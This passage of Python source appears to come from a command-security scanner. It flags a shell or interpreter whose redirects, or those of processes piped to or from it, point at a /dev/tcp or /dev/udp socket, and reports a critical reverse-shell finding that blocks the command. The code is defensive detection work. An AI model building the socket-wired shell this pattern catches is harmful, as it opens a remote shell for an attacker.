        if r.target is not None and r.target.text.startswith(("/dev/tcp/", "/dev/udp/"))
    }
    if not sockets:
        return
    for view in views:
        if view.name not in SHELLS and view.name not in INTERPRETERS:
            continue
        peers = [
            view,
            *(CommandView(e) for e in (*upstream_closure(view.exec), *consumer_closure(view.exec))),
        ]
        wired = any(
            "&" in r.op and r.target is not None and r.target.text in sockets
            for peer in peers
            for r in peer.exec.redirects
        )
        if wired:
            yield finding("exfiltration", "reverse-shell", "block", "critical",
                          f"{view.name} is wired to a socket descriptor")  # fmt: skip
            return
